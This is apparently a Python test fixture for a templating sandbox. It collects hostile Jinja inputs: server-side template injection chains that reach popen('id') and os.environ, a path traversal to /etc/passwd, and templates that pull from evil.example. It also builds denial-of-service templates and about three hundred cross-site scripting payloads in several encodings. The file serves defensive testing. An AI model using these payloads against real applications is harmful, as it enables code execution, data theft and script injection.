"""Templates that reach for what is not theirs, templates that eat, and values that are markup."""

from tests.campaign.test_templates import ATTACKS, MISPLACED

_DUNDERS = ("__class__", "__init__", "__globals__", "__subclasses__", "__dict__", "__builtins__",
            "__mro__", "__base__", "__getattribute__", "__reduce__", "__module__", "_context")  # fmt: skip
_NAMES = ("self", "cycler", "joiner", "namespace", "lipsum", "range", "dict", "config", "request",
          "session", "g", "url_for", "get_flashed_messages", "environ", "os", "open", "exec", "eval",
          "context", "caller", "varargs", "kwargs", "loop", "super", "__builtins__", "_")  # fmt: skip
_FILTERS = ("attr", "map", "select", "reject", "selectattr", "groupby", "batch", "slice", "random",
            "pprint", "safe", "forceescape", "format", "urlize", "wordwrap", "xmlattr", "tojson",
            "filesizeformat", "striptags", "sum", "sort", "unique", "dictsort", "items", "list",
            "string", "int", "float", "round", "join", "center")  # fmt: skip

CODE = (
    ATTACKS
    | {f"misplaced {name}": source for name, source in MISPLACED.items() if name != "private_sign"}
    | {f"attribute {name}": f"{{{{ department.{name} }}}}" for name in _DUNDERS}
    | {f"of a product {name}": f"{{% for p in products %}}{{{{ p.{name} }}}}{{% endfor %}}" for name in _DUNDERS[:6]}
    | {f"name {name}": f"{{{{ {name} }}}}" for name in _NAMES}
    | {f"filter {name}": f"{{{{ department|{name} }}}}" for name in _FILTERS}
    | {
        "chained": "{{ ''.__class__.__mro__[1].__subclasses__()[132].__init__.__globals__['popen']('id').read() }}",
        "cycler globals": "{{ cycler.__init__.__globals__.os.environ }}",
        "lipsum os": "{{ lipsum.__globals__['os'].popen('id').read() }}",
        "hex attribute": "{{ department['\\x5f\\x5fclass\\x5f\\x5f'] }}",
        "attr in brackets": "{{ (department|attr('__cla' ~ 'ss__')) }}",
        "template reference": "{{ self._TemplateReference__context }}",
        "undefined class": "{{ nothing.__class__ }}",
        "undefined init": "{{ department.nothing.__init__ }}",
        "format string": "{{ '{0.__class__}'.format(department) }}",
        "format map": "{{ '{a.__class__}'.format_map(products) }}",
        "percent": "{{ '%s' % products }}",
        "include traversal": "{% include '../../../../etc/passwd' %}",
        "import os": "{% import 'os' as os %}{{ os }}",
        "extends url": "{% extends 'https://evil.example/a.html' %}",
        "raw jinja in raw": "{% raw %}{% endraw %}{{ config }}",
        "line statement": "# for x in range(9)\n{{ x }}",
        "comment trick": "{#{{#}{{ lipsum() }}{#}}#}",
        "unicode name": "{{ ｄepartment.__class__ }}",
        "zero width": "{{ lip\u200bsum() }}",
        "null": "{{ department\x00.__class__ }}",
        "block super": "{% block a %}{{ super.super() }}{% endblock %}",
        "trans": "{% trans %}{{ department }}{% endtrans %}",
        "break": "{% for p in products %}{% break %}{% endfor %}",
        "async": "{% for p in products async %}{% endfor %}",
        "negative index": "{{ products[-1] }}",
        "unpacking": "{% for a, b in products %}{% endfor %}",
        "in operator on self": "{{ department in self }}",
        "test with arguments": "{{ department is divisibleby(0) }}",
        "keyword filter": "{{ department|default(value=products) }}",
        "set namespace": "{% set ns = namespace(a=1) %}{% set ns.a = 2 %}",
    }
)  # fmt: skip

_LOOP = "{{% for p in products %}}{}{{% endfor %}}"
MANY = {"products": [{"name": "x" * 300, "initial": "x"}] * 1_000, "department": "x" * 300}
EATING = {
    "output of a loop": _LOOP.format("{{ p.name }}"),
    "output of many loops": _LOOP.format("{{ p.name }}") * 800,
    "filters in a loop": _LOOP.format(("{% if p.name" + "|upper|lower" * 50 + " %}{% endif %}") * 95),
    "filters without a loop": ("{% if department" + "|upper|lower" * 50 + " %}{% endif %}") * 95,
    "loops that write nothing": "{% for p in products %}{% endfor %}" * 1_700,
    "conditions in a loop": _LOOP.format("{% if p.name == p.initial or p.name != p.initial %}{% endif %}" * 900),
    "as many conditions as may be": _LOOP.format("{% if p.name == p.initial or p.name != p.initial %}{% endif %}" * 355),
    "spaces": " " * 64_001,
    "one long text": "x" * 200_000,
    "very many fields": "{{ department }}" * 4_000,
    "text of a field over and over": _LOOP.format("{{ p.name }}{{ p.name|upper }}" * 900),
    "deep conditions": "{% if department %}" * 2_000 + "{% endif %}" * 2_000,
    "deep brackets": "{{ " + "(" * 20_000 + "1" + ")" * 20_000 + " }}",
    "deep filters": "{{ department" + "|upper" * 10_000 + " }}",
    "long comparison": "{{ " + " == ".join(["department"] * 4_900) + " }}",
    "long or": "{{ " + " or ".join(["department"] * 4_500) + " }}",
    "big number": "{{ " + "9" * 60_000 + " }}",
    "many blocks": "".join(f"{{% block b{n} %}}{{% endblock %}}" for n in range(2_000)),
    "unclosed again and again": "{{ '" * 20_000,
    "comments": "{#" * 30_000,
    "open tags": "<a " * 21_000,
    "quotes in tags": "<a title='" * 6_000,
    "open comments": "<!--" * 16_000,
    "entities": "&#" * 32_000,
    "ternaries": "{{ " + "1 if department else " * 3_000 + "0 }}",
    "nested defaults": "{{ " + "department|default(" * 3_000 + "'a'" + ")" * 3_000 + " }}",
}  # fmt: skip

_SHAPES = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>", "<iframe srcdoc='<script>x</script>'></iframe>",
    "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>", "<marquee onstart=alert(1)>", "<form action=//evil.example><input>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example/a.css>", "<style>@import'//evil.example/a.css'</style>",
    "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<math><mi//xlink:href='javascript:x'>",
    "<table background=javascript:alert(1)>", "<div style='background:url(javascript:x)'>", "<template><img src=x></template>",
    "<noscript><p title='</noscript><img src=x onerror=x>'>", "<textarea></textarea><img src=x>", "<xmp><img src=x></xmp>",
    "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[<img src=x onerror=alert(1)>]]>", "<?xml version='1.0'?><img src=x>",
    "javascript:alert(1)", "data:text/html,<script>x</script>", "vbscript:msgbox(1)",
)  # fmt: skip
_DISGUISES = {
    "plain": lambda v: v,
    "capitals": lambda v: v.upper(),
    "out of a double quote": lambda v: f'">{v}',
    "out of a single quote": lambda v: f"'>{v}",
    "out of a title": lambda v: f"</title></style></textarea></a></p>{v}",
    "as an attribute": lambda v: f'" onmouseover="{v.strip("<>")}" x="',
    "with control signs": lambda v: (
        v.replace("a", "a\x00").replace(":", "\t:").replace("<", "<\x0b")
    ),
    "as entities": lambda v: "".join(f"&#{ord(sign)};" for sign in v),
    "wide": lambda v: "".join(chr(ord(s) + 0xFEE0) if "!" <= s <= "~" else s for s in v),
    "url-coded": lambda v: "".join(f"%{ord(sign):02x}" for sign in v),
}
XSS = [disguise(shape) for shape in _SHAPES for disguise in _DISGUISES.values()]
